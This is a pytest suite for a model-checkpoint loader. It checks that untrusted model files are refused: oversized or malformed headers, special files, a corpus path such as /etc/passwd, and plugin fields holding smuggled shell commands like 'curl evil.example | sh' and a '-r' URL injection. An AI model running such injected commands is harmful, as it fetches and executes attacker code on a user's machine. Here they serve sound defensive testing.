"""A model file may be anybody's: what it asks for is refused at once, and nothing that it says is done."""

from __future__ import annotations

import os
import resource
import time
from pathlib import Path
from typing import Any

import pytest
import safetensors.torch
import torch
from conftest import TOY, Lvm

from lvmcore.checkpoint import load_model, save_model
from lvmcore.errors import LvmError
from lvmcore.model import build_model
from lvmcore.plugins import Plugins
from lvmcore.registry import Registry

DEEP = "[" * 5000 + "]" * 5000


def refused(path: Path, registry: Registry) -> str:
    """What is said of a file; in a moment, and without memory."""
    began, before = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(LvmError) as caught:
        load_model(path, registry)
    assert time.monotonic() - began < 1
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # KiB
    assert str(path) in (caught.value.where or "")
    return str(caught.value)


@pytest.fixture
def made(tmp_path: Path, registry: Registry) -> Any:
    """Writes a small sound model with other words in its header."""
    path = tmp_path / "m.safetensors"

    def make(**header: Any) -> Path:
        save_model(path, build_model("amn", "", 16, 5, registry, "toy"), header)
        return path

    return make


@pytest.mark.parametrize(
    "header",
    [
        {"arch": "amn:99999999"},
        {"arch": "amn", "dim": 10**9},
        {"arch": "transformer", "context": 10**8},
        {"arch": "transformer,layers=100000"},
        {"arch": "lstm,layers=100000000"},
        {"arch": "transformer,d_model=9999998,heads=1"},
        {"arch": "+".join(["amn", *["residual"] * 10_000])},
        {"inputs": "+".join(["pos"] * 9_000)},
        {"inputs": "pos", "context": 10**10},
        {"arch": "amn:999999999999999999999999"},
    ],
    ids=lambda header: str(header)[:40],
)
def test_a_small_file_that_asks_for_a_large_model_is_refused_before_it_is_built(
    header: dict[str, Any], made: Any, registry: Registry
) -> None:
    load_model(made(), registry)  # what is imported at the first is no cost of the second
    assert "the weights do not fit the header: " in (said := refused(made(**header), registry)) or "cannot be" in said


@pytest.mark.parametrize(
    ("header", "said"),
    [
        ({"schema": None}, "schema: None is no int"),
        ({"arch": 5}, "arch: 5 is no str"),
        ({"dim": 16.0}, "dim: 16.0 is no int"),
        ({"dim": True}, "dim: True is no int"),
        ({"dim": 0}, "'dim' must be >= 1"),
        ({"context": -5}, "'context' must be >= 1"),
        ({"context": 10**30}, "has more than 64 bits"),
        ({"inputs": None}, "inputs: None is no str"),
        ({"inputs": "pos:x"}, "'x' is no value for option 'scale'"),
        ({"plugins": 3}, "plugins: 3 is no list"),
        ({"plugins": [{"dist": "x", "plugin": "y"}]}, "plugins[0].version: the key 'version' is missing"),
        ({"corpus": [1], "run": ["\x1b[2J"]}, "run: ["),
        ({"arch": "a" * 100_000}, "'arch'"),
    ],
    ids=lambda value: str(value)[:30],
)
def test_a_header_of_wrong_types_is_named(header: dict[str, Any], said: str, made: Any, registry: Registry) -> None:
    assert said in refused(made(**header), registry)


@pytest.mark.parametrize(
    "header", [DEEP, f'{{"kind": "model", "x": {DEEP}}}', '{"kind', f'{{"dim": {"9" * 5000}}}', '"']
)
def test_a_header_that_is_no_json_is_named(header: str, tmp_path: Path, registry: Registry) -> None:
    safetensors.torch.save_file({"a": torch.ones(1)}, tmp_path / "m.safetensors", {"lvm": header})
    refused(tmp_path / "m.safetensors", registry)


def test_what_is_no_regular_file_or_has_no_header_is_named(tmp_path: Path, registry: Registry) -> None:
    os.mkfifo(tmp_path / "m.safetensors")
    (tmp_path / "zero.safetensors").symlink_to("/dev/zero")
    (tmp_path / "folder.safetensors").mkdir()
    (tmp_path / "large.safetensors").write_bytes((1 << 40).to_bytes(8, "little") + b"{}")
    for file in tmp_path.iterdir():
        refused(file, registry)


WORDS = "x; curl evil.example | sh"


@pytest.mark.parametrize(
    "need",
    [
        {"dist": WORDS, "plugin": "p", "version": "1"},
        {"dist": "x", "plugin": "p", "version": WORDS},
        {"dist": WORDS, "plugin": "p", "version": "file"},
        {"dist": "-rhttps://evil.example", "plugin": "p", "version": "1"},
    ],
)
def test_the_words_of_a_header_are_no_advice_to_type(need: dict[str, str], made: Any, registry: Registry) -> None:
    path = made(arch="nobody", plugins=[need])
    with pytest.raises(LvmError, match="needs a plugin that is not loaded") as caught:
        load_model(path, registry)
    assert caught.value.fix == "lvm plugins"


@pytest.mark.parametrize("data", ["/etc/passwd", "secret.safetensors", "world,articles=1000000000", "//host/x.json"])
def test_what_a_file_names_as_its_corpus_is_not_opened_unasked(data: str, made: Any, lvm: Lvm, small: Path) -> None:
    path = made(data=data)
    said = lvm("eval", path, status=2).stderr
    assert f"was trained on {data}, as its file says; what a file names is not opened unasked" in said
    assert said.endswith("try: --data FILE\n")
    lvm("eval", path, "--data", small)


def test_every_command_refuses_a_damaged_model(made: Any, lvm: Lvm, small: Path) -> None:
    lvm(*TOY, small)
    path = made(schema=None)
    for words in (
        ("eval", path, "--data", small),
        ("predict", path, "--data", small, "--text", small),
        ("serve", path),
    ):
        assert "schema: None is no int" in lvm(*words, status=2).stderr
    (folder,) = Path("runs").iterdir()
    (folder / "model.safetensors").write_bytes(path.read_bytes())
    assert "schema: None is no int" in lvm("eval", "latest", status=2).stderr
    lvm("show", path)


LOOKS = """
import torch
from lvmcore import component, hookimpl

@component
class Looks:
    "One that looks at its numbers while it is built, which none on `meta` has."
    def build(self, shape):
        layer = torch.nn.Linear(shape.dim, shape.dim)
        assert float(layer.weight.detach().sum()) < 1e9
        module = torch.nn.Module()
        module.layer, module.forward = layer, lambda context: layer(context[:, -1])
        return module

@hookimpl
def lvm_architectures():
    return [("looks", Looks)]
"""


def test_an_architecture_that_cannot_be_built_on_meta_is_loaded_all_the_same(tmp_path: Path) -> None:
    (tmp_path / "looks.py").write_text(LOOKS)
    registry = Registry(Plugins([tmp_path / "looks.py"]))
    path, model = tmp_path / "m.safetensors", build_model("looks", "", 8, 5, registry)
    save_model(path, model, {})
    contexts = torch.randn(3, 5, 8)
    assert torch.equal(load_model(path, registry)[0](contexts), model(contexts))
    save_model(path, model, {"dim": 9})
    assert "layer.weight is (8, 8), not (9, 9)" in refused(path, registry)
